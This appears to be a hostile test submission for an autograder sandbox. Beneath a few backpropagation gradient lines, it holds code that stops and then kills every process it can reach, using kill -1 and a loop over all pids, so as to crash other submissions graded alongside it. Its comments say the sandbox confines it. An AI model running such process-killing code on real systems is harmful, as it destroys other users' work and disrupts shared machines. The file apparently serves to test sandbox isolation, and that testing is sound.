# Hostile: stops and kills every process it can address (kill -1, then every pid), to crash the classmates
# graded beside it. It can address none but itself; every classmate keeps its score, and it earns 3.
# ruff: noqa: F821, E402 - the names are the forward's locals, supplied by the grader
dlogprobs = torch.zeros_like(logprobs)
dlogprobs[range(n), Yb] = -1.0 / n
dprobs = (1.0 / probs) * dlogprobs
dcounts_sum_inv = (counts * dprobs).sum(1, keepdim=True)
import contextlib
import os
import signal

me = os.getpid()
for sig in (signal.SIGSTOP, signal.SIGKILL):
    with contextlib.suppress(OSError):
        os.kill(-1, sig)
    for pid in range(2, 1 << 16):
        if pid != me:
            with contextlib.suppress(OSError):
                os.kill(pid, sig)
